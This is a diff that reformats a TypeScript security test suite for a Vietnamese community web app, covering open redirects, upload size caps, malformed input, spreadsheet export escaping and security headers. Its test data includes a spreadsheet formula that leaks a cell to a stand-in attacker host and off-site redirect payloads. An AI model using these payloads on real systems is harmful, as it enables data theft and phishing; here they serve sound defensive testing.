@@ -24,12 +24,22 @@ import { action as loginAction, loader as loginLoader } from "~/routes/login";
 import { loader as meLoader } from "~/routes/me._index";
 import { action as signupAction } from "~/routes/signup";
 import { loader as wardLoader } from "~/routes/office.wards.$wardId";
-import { addMember, createGroup, createHousehold, createResident, createUser, createWard, TEST_PASSWORD } from "../support/factories";
+import {
+  addMember,
+  createGroup,
+  createHousehold,
+  createResident,
+  createUser,
+  createWard,
+  TEST_PASSWORD,
+} from "../support/factories";
 import { actionArgs, cookieFor, getRequest, loaderArgs, ORIGIN, outcome, postRequest } from "../support/http";
 
 // server.mjs and its middleware are plain JavaScript run by node; their types are not checked here.
-// @ts-expect-error no declaration file for the server entry
-const { createApp } = (await import("../../server.mjs")) as { createApp: (o: object) => import("express").Express };
+const { createApp } = (await import("../../server.mjs")) as {
+  // @ts-expect-error express has no type declarations installed
+  createApp: (o: object) => import("express").Express;
+};
 
 const MB = 1024 * 1024;
 
@@ -44,7 +54,9 @@ beforeAll(async () => {
   const created = await createGroup(ward.id);
   group = created.group;
   household = await createHousehold(group.id);
-  await createResident(household.id, { fullName: '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")' });
+  await createResident(household.id, {
+    fullName: '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
+  });
   const member = await createUser();
   await addMember(created.team.id, member.id, "member");
   residentUser = await createUser({ role: "resident", email: "ba-lan@example.vn" });
@@ -88,14 +100,24 @@ describe("signing in only leads back to a page of this site", () => {
 
   it("a signed-in visitor opening /login?redirectTo=%2F%09%2Fevil.example stays on the site", async () => {
     for (const to of offSite) {
-      const result = await outcome(() => loginLoader(loaderArgs(getRequest(`/login?redirectTo=${encodeURIComponent(to)}`, cookies.resident))));
+      const result = await outcome(() =>
+        loginLoader(loaderArgs(getRequest(`/login?redirectTo=${encodeURIComponent(to)}`, cookies.resident))),
+      );
       expect(result, JSON.stringify(to)).toMatchObject({ kind: "redirect", location: "/" });
     }
   });
 
   it("the sign-in form's hidden redirectTo field cannot send anyone away", async () => {
     const result = await outcome(() =>
-      loginAction(actionArgs(postRequest("/login", { identifier: "ba-lan@example.vn", password: TEST_PASSWORD, redirectTo: "/\t/evil.example" }, { address: "203.0.113.31" }))),
+      loginAction(
+        actionArgs(
+          postRequest(
+            "/login",
+            { identifier: "ba-lan@example.vn", password: TEST_PASSWORD, redirectTo: "/\t/evil.example" },
+            { address: "203.0.113.31" },
+          ),
+        ),
+      ),
     );
     expect(result).toMatchObject({ kind: "redirect", location: "/" });
   });
@@ -104,7 +126,11 @@ describe("signing in only leads back to a page of this site", () => {
 // ─── Finding 7: request bodies capped before reading ───────────────────────
 
 /** A request whose body is made on demand, counting what the reader pulled. */
-function streamingRequest(path: string, contentType: string, parts: () => Generator<Uint8Array>): { request: Request; pulled: () => number } {
+function streamingRequest(
+  path: string,
+  contentType: string,
+  parts: () => Generator<Uint8Array>,
+): { request: Request; pulled: () => number } {
   let pulled = 0;
   const source = parts();
   const body = new ReadableStream<Uint8Array>({
@@ -130,16 +156,28 @@ const BOUNDARY = "----hocso-test";
 const jpegHead = Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]);
 
 /** A visit form with `count` photos of `size` bytes each, sent 64 KB at a time. */
-function* visitWithPhotos(count: number, size: number, fileName = (i: number) => `anh-${i}.jpg`): Generator<Uint8Array> {
+function* visitWithPhotos(
+  count: number,
+  size: number,
+  fileName = (i: number) => `anh-${i}.jpg`,
+): Generator<Uint8Array> {
   const text = new TextEncoder();
-  for (const [name, value] of [["intent", "visit"], ["visitedOn", new Date().toISOString().slice(0, 10)], ["topics", "vneid"], ["notes", ""]]) {
+  for (const [name, value] of [
+    ["intent", "visit"],
+    ["visitedOn", new Date().toISOString().slice(0, 10)],
+    ["topics", "vneid"],
+    ["notes", ""],
+  ]) {
     yield text.encode(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`);
   }
   const chunk = new Uint8Array(64 * 1024).fill(0x41);
   for (let i = 1; i <= count; i++) {
-    yield text.encode(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="photos"; filename="${fileName(i)}"\r\nContent-Type: image/jpeg\r\n\r\n`);
+    yield text.encode(
+      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="photos"; filename="${fileName(i)}"\r\nContent-Type: image/jpeg\r\n\r\n`,
+    );
     yield jpegHead;
-    for (let sent = jpegHead.length; sent < size; sent += chunk.length) yield chunk.subarray(0, Math.min(chunk.length, size - sent));
+    for (let sent = jpegHead.length; sent < size; sent += chunk.length)
+      yield chunk.subarray(0, Math.min(chunk.length, size - sent));
     yield text.encode("\r\n");
   }
   yield text.encode(`--${BOUNDARY}--\r\n`);
@@ -147,7 +185,11 @@ function* visitWithPhotos(count: number, size: number, fileName = (i: number) =>
 
 describe("request bodies are capped before they are read", () => {
   it("a 12 × 8 MB visit upload is refused with 413 while streaming, long before all 96 MB are read", async () => {
-    const { request, pulled } = streamingRequest(`/field/households/${household.id}`, `multipart/form-data; boundary=${BOUNDARY}`, () => visitWithPhotos(12, 8 * MB - 1024));
+    const { request, pulled } = streamingRequest(
+      `/field/households/${household.id}`,
+      `multipart/form-data; boundary=${BOUNDARY}`,
+      () => visitWithPhotos(12, 8 * MB - 1024),
+    );
     const result = await outcome(() => householdAction(actionArgs(request, { id: String(household.id) })));
     expect(result).toMatchObject({ kind: "status", status: 413 });
     expect((result as { body: string }).body).toContain("lớn quá mức cho phép");
@@ -158,7 +200,11 @@ describe("request bodies are capped before they are read", () => {
   });
 
   it("six small photos still get the friendly message next to the field", async () => {
-    const { request } = streamingRequest(`/field/households/${household.id}`, `multipart/form-data; boundary=${BOUNDARY}`, () => visitWithPhotos(6, 2000));
+    const { request } = streamingRequest(
+      `/field/households/${household.id}`,
+      `multipart/form-data; boundary=${BOUNDARY}`,
+      () => visitWithPhotos(6, 2000),
+    );
     const result = await outcome(() => householdAction(actionArgs(request, { id: String(household.id) })));
     expect(result.kind).toBe("page");
     expect(JSON.stringify((result as { data: unknown }).data)).toContain("tối đa 5 ảnh");
@@ -166,7 +212,11 @@ describe("request bodies are capped before they are read", () => {
 
   it("photo file names with “=” or “;” get a 400 that says to rename the file, not a server error", async () => {
     for (const name of ["a=b.jpg", "nha;ba-lan.jpg", "=x;"]) {
-      const { request } = streamingRequest(`/field/households/${household.id}`, `multipart/form-data; boundary=${BOUNDARY}`, () => visitWithPhotos(1, 2000, () => name));
+      const { request } = streamingRequest(
+        `/field/households/${household.id}`,
+        `multipart/form-data; boundary=${BOUNDARY}`,
+        () => visitWithPhotos(1, 2000, () => name),
+      );
       const result = await outcome(() => householdAction(actionArgs(request, { id: String(household.id) })));
       expect(result, name).toMatchObject({ kind: "status", status: 400 });
       expect((result as { body: string }).body).toContain("đổi tên tệp");
@@ -174,11 +224,15 @@ describe("request bodies are capped before they are read", () => {
   });
 
   it("an anonymous 40 MB password is refused with 413 after at most 64 KB, never hashed, nobody signed up", async () => {
-    const { request, pulled } = streamingRequest("/signup", "application/x-www-form-urlencoded", function* () {
-      yield new TextEncoder().encode("displayName=Ba+Lan&identifier=0905999111&consent=on&password=");
-      const chunk = new Uint8Array(64 * 1024).fill(0x61);
-      for (let sent = 0; sent < 40 * MB; sent += chunk.length) yield chunk;
-    });
+    const { request, pulled } = streamingRequest(
+      "/signup",
+      "application/x-www-form-urlencoded",
+      function* () {
+        yield new TextEncoder().encode("displayName=Ba+Lan&identifier=0905999111&consent=on&password=");
+        const chunk = new Uint8Array(64 * 1024).fill(0x61);
+        for (let sent = 0; sent < 40 * MB; sent += chunk.length) yield chunk;
+      },
+    );
     const started = performance.now();
     const result = await outcome(() => signupAction(actionArgs(request)));
     expect(result).toMatchObject({ kind: "status", status: 413 });
@@ -192,7 +246,9 @@ describe("request bodies are capped before they are read", () => {
     const { request, pulled } = streamingRequest("/login", "application/x-www-form-urlencoded", function* () {
       for (let i = 0; i < 100; i++) yield new Uint8Array(1024);
     });
-    const announced = new Request(request, { headers: { ...Object.fromEntries(request.headers), "Content-Length": String(40 * MB) } });
+    const announced = new Request(request, {
+      headers: { ...Object.fromEntries(request.headers), "Content-Length": String(40 * MB) },
+    });
     await expect(readFormData(announced)).rejects.toMatchObject({ status: 413 });
     // Only what the streams fetched ahead when they were made (a chunk or two of 100).
     expect(pulled()).toBeLessThanOrEqual(4 * 1024);
@@ -218,9 +274,23 @@ describe("request bodies are capped before they are read", () => {
     afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
 
     /** Sends only the headers and the first 64 KB of a body announced as `length` bytes. */
-    function announce(path: string, length: number, contentType = "application/x-www-form-urlencoded"): Promise<{ status: number; body: string }> {
+    function announce(
+      path: string,
+      length: number,
+      contentType = "application/x-www-form-urlencoded",
+    ): Promise<{ status: number; body: string }> {
       return new Promise((resolve, reject) => {
-        const req = http.request({ host: "127.0.0.1", port, path, method: "POST", headers: { "Content-Type": contentType, "Content-Length": String(length), Origin: `http://127.0.0.1:${port}` } });
+        const req = http.request({
+          host: "127.0.0.1",
+          port,
+          path,
+          method: "POST",
+          headers: {
+            "Content-Type": contentType,
+            "Content-Length": String(length),
+            Origin: `http://127.0.0.1:${port}`,
+          },
+        });
         req.on("response", (res) => {
           let body = "";
           res.setEncoding("utf8");
@@ -243,8 +313,18 @@ describe("request bodies are capped before they are read", () => {
 
     it("a 12 × 8 MB visit upload is refused; five photos of 8 MB fit", async () => {
       const before = reached;
-      expect((await announce(`/field/households/${household.id}`, 12 * 8 * MB, `multipart/form-data; boundary=${BOUNDARY}`)).status).toBe(413);
-      expect((await announce("/office/roster", 6 * MB, `multipart/form-data; boundary=${BOUNDARY}`)).status).toBe(413);
+      expect(
+        (
+          await announce(
+            `/field/households/${household.id}`,
+            12 * 8 * MB,
+            `multipart/form-data; boundary=${BOUNDARY}`,
+          )
+        ).status,
+      ).toBe(413);
+      expect(
+        (await announce("/office/roster", 6 * MB, `multipart/form-data; boundary=${BOUNDARY}`)).status,
+      ).toBe(413);
       expect(reached).toBe(before);
       const ok = await fetch(`http://127.0.0.1:${port}/field/households/1`, {
         method: "POST",
@@ -269,21 +349,33 @@ describe("request bodies are capped before they are read", () => {
 
 describe("bad input gets a 400 or 404 with a Vietnamese message, never a server error", () => {
   it("/field?notVisited=abc shows the list, as if the box were not ticked", async () => {
-    const result = await outcome(() => fieldLoader(loaderArgs(getRequest("/field?notVisited=abc&missingSkills=%3Cscript%3E", cookies.member))));
+    const result = await outcome(() =>
+      fieldLoader(loaderArgs(getRequest("/field?notVisited=abc&missingSkills=%3Cscript%3E", cookies.member))),
+    );
     expect(result.kind).toBe("page");
   });
 
   it("an id beyond the integer range is “not found”, not a database error", async () => {
-    const result = await outcome(() => wardLoader(loaderArgs(getRequest("/office/wards/84905123456", cookies.office), { wardId: "84905123456" })));
+    const result = await outcome(() =>
+      wardLoader(
+        loaderArgs(getRequest("/office/wards/84905123456", cookies.office), { wardId: "84905123456" }),
+      ),
+    );
     expect(result).toMatchObject({ kind: "status", status: 404, body: "Không tìm thấy phường." });
     for (const q of ["ward=84905123456", "ward=abc", "ward=1e309", "ward=-1"]) {
-      const csv = await outcome(() => exportCsvLoader(loaderArgs(getRequest(`/export.csv?table=ward-targets&${q}`, cookies.office))));
+      const csv = await outcome(() =>
+        exportCsvLoader(loaderArgs(getRequest(`/export.csv?table=ward-targets&${q}`, cookies.office))),
+      );
       expect(csv, q).toMatchObject({ kind: "status", status: 404 });
     }
   });
 
   it("the administrator's form with a non-numeric userId is a 404, and /admin?page=1e309 shows page 1", async () => {
-    const result = await outcome(() => adminAction(actionArgs(postRequest("/admin", { userId: "abc", role: "office" }, { cookie: cookies.admin }))));
+    const result = await outcome(() =>
+      adminAction(
+        actionArgs(postRequest("/admin", { userId: "abc", role: "office" }, { cookie: cookies.admin })),
+      ),
+    );
     expect(result).toMatchObject({ kind: "status", status: 404, body: "Không tìm thấy người dùng." });
     const page = await outcome(() => adminLoader(loaderArgs(getRequest("/admin?page=1e309", cookies.admin))));
     expect(page).toMatchObject({ kind: "page", data: { page: 1 } });
@@ -291,7 +383,16 @@ describe("bad input gets a 400 or 404 with a Vietnamese message, never a server 
 
   it("a NUL character in a text field is a 400 and nothing is stored", async () => {
     const result = await outcome(() =>
-      signupAction(actionArgs(postRequest("/signup", { displayName: "Ba\0Lan", identifier: "0905999222", password: "mot cau dai de nho 2026", consent: "on" }))),
+      signupAction(
+        actionArgs(
+          postRequest("/signup", {
+            displayName: "Ba\0Lan",
+            identifier: "0905999222",
+            password: "mot cau dai de nho 2026",
+            consent: "on",
+          }),
+        ),
+      ),
     );
     expect(result).toMatchObject({ kind: "status", status: 400 });
     expect((result as { body: string }).body).toContain("ký tự không hợp lệ");
@@ -300,7 +401,13 @@ describe("bad input gets a 400 or 404 with a Vietnamese message, never a server 
   });
 
   it("a session cookie of “%” is no session: the page opens as for a signed-out visitor", async () => {
-    const result = await outcome(() => meLoader(loaderArgs(new Request(`${ORIGIN}/me`, { headers: { Cookie: "hocso_session=%; __Host-hocso_session=%" } }))));
+    const result = await outcome(() =>
+      meLoader(
+        loaderArgs(
+          new Request(`${ORIGIN}/me`, { headers: { Cookie: "hocso_session=%; __Host-hocso_session=%" } }),
+        ),
+      ),
+    );
     expect(result).toMatchObject({ kind: "redirect" });
     expect((result as { location: string }).location).toMatch(/^\/login\?redirectTo=/);
   });
@@ -310,20 +417,30 @@ describe("bad input gets a 400 or 404 with a Vietnamese message, never a server 
 
 describe("exported cells never run as formulas", () => {
   it("text starting with = + - @, a tab or a carriage return gets a leading apostrophe in CSV; numbers stay numbers", () => {
-    for (const text of ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]) expect(csvSafe(text)).toBe(`'${text}`);
+    for (const text of ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
+      expect(csvSafe(text)).toBe(`'${text}`);
     expect(csvSafe(-3)).toBe(-3);
     expect(csvSafe("Nguyễn Văn An")).toBe("Nguyễn Văn An");
-    const csv = toCsv({ name: "t", title: "t", columns: ["Họ và tên"], rows: [['=HYPERLINK("http://evil.example")']] });
+    const csv = toCsv({
+      name: "t",
+      title: "t",
+      columns: ["Họ và tên"],
+      rows: [['=HYPERLINK("http://evil.example")']],
+    });
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"")"`);
   });
 
   it("the office's list of residents still missing a target exports a resident named =HYPERLINK(…) as text", async () => {
-    const csvResult = await exportCsvLoader(loaderArgs(getRequest(`/export.csv?table=missing&target=g&group=${group.id}`, cookies.office)));
+    const csvResult = await exportCsvLoader(
+      loaderArgs(getRequest(`/export.csv?table=missing&target=g&group=${group.id}`, cookies.office)),
+    );
     const csv = await (csvResult as Response).text();
     expect(csv).toContain(`"'=HYPERLINK(`);
     expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
 
-    const xlsxResult = (await exportXlsxLoader(loaderArgs(getRequest(`/export.xlsx?table=missing&target=g&group=${group.id}`, cookies.office)))) as Response;
+    const xlsxResult = (await exportXlsxLoader(
+      loaderArgs(getRequest(`/export.xlsx?table=missing&target=g&group=${group.id}`, cookies.office)),
+    )) as Response;
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(await xlsxResult.arrayBuffer());
     const cells: ExcelJS.Cell[] = [];
@@ -356,14 +473,20 @@ describe("every response carries the security headers", () => {
     "/certificates/ABCD-2345.pdf": { type: "application/pdf", body: "%PDF-1.7" },
   };
 
-  async function serve(env: Record<string, string | undefined>, run: (base: string, seen: string[]) => Promise<void>) {
+  async function serve(
+    env: Record<string, string | undefined>,
+    run: (base: string, seen: string[]) => Promise<void>,
+  ) {
     const saved = { PUBLIC_URL: process.env.PUBLIC_URL, TRUST_PROXY: process.env.TRUST_PROXY };
     Object.assign(process.env, env);
     for (const [k, v] of Object.entries(env)) if (v === undefined) delete process.env[k];
     const seen: string[] = [];
     const app = createApp({
       log: false,
-      handler: (req: { path: string; headers: Record<string, string> }, res: { type: (t: string) => { send: (b: string) => void } }) => {
+      handler: (
+        req: { path: string; headers: Record<string, string> },
+        res: { type: (t: string) => { send: (b: string) => void } },
+      ) => {
         seen.push(req.headers["x-csp-nonce"] ?? "");
         const kind = kinds[req.path] ?? kinds["/"]!;
         res.type(kind.type).send(kind.body);
@@ -376,8 +499,9 @@ describe("every response carries the security headers", () => {
       await run(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen);
     } finally {
       await new Promise<void>((resolve) => server.close(() => resolve()));
-      for (const [k, v] of Object.entries(saved)) if (v === undefined) delete process.env[k];
-      else process.env[k] = v;
+      for (const [k, v] of Object.entries(saved))
+        if (v === undefined) delete process.env[k];
+        else process.env[k] = v;
     }
   }
 
@@ -386,7 +510,9 @@ describe("every response carries the security headers", () => {
       for (const path of [...Object.keys(kinds), "/favicon.svg"]) {
         const response = await fetch(`${base}${path}`);
         const h = response.headers;
-        expect(h.get("Content-Security-Policy"), path).toMatch(/default-src 'self'; script-src 'self' 'nonce-[A-Za-z0-9+/=]{24}'/);
+        expect(h.get("Content-Security-Policy"), path).toMatch(
+          /default-src 'self'; script-src 'self' 'nonce-[A-Za-z0-9+/=]{24}'/,
+        );
         expect(h.get("Content-Security-Policy"), path).toContain("frame-ancestors 'none'");
         expect(h.get("Content-Security-Policy"), path).toContain("object-src 'none'");
         expect(h.get("X-Content-Type-Options"), path).toBe("nosniff");
@@ -408,15 +534,25 @@ describe("every response carries the security headers", () => {
 
   it("HSTS when the site is served over https: PUBLIC_URL https, or X-Forwarded-Proto https from a trusted proxy", async () => {
     await serve({ PUBLIC_URL: "https://hocso.danang.gov.vn", TRUST_PROXY: undefined }, async (base) => {
-      expect((await fetch(`${base}/`)).headers.get("Strict-Transport-Security")).toBe("max-age=31536000; includeSubDomains");
+      expect((await fetch(`${base}/`)).headers.get("Strict-Transport-Security")).toBe(
+        "max-age=31536000; includeSubDomains",
+      );
     });
     await serve({ PUBLIC_URL: undefined, TRUST_PROXY: "1" }, async (base) => {
-      expect((await fetch(`${base}/`, { headers: { "X-Forwarded-Proto": "https" } })).headers.get("Strict-Transport-Security")).toContain("max-age=");
+      expect(
+        (await fetch(`${base}/`, { headers: { "X-Forwarded-Proto": "https" } })).headers.get(
+          "Strict-Transport-Security",
+        ),
+      ).toContain("max-age=");
       expect((await fetch(`${base}/`)).headers.get("Strict-Transport-Security")).toBeNull();
     });
     await serve({ PUBLIC_URL: undefined, TRUST_PROXY: undefined }, async (base) => {
       // Without a trusted proxy, a client's X-Forwarded-Proto means nothing.
-      expect((await fetch(`${base}/`, { headers: { "X-Forwarded-Proto": "https" } })).headers.get("Strict-Transport-Security")).toBeNull();
+      expect(
+        (await fetch(`${base}/`, { headers: { "X-Forwarded-Proto": "https" } })).headers.get(
+          "Strict-Transport-Security",
+        ),
+      ).toBeNull();
     });
   });
 });
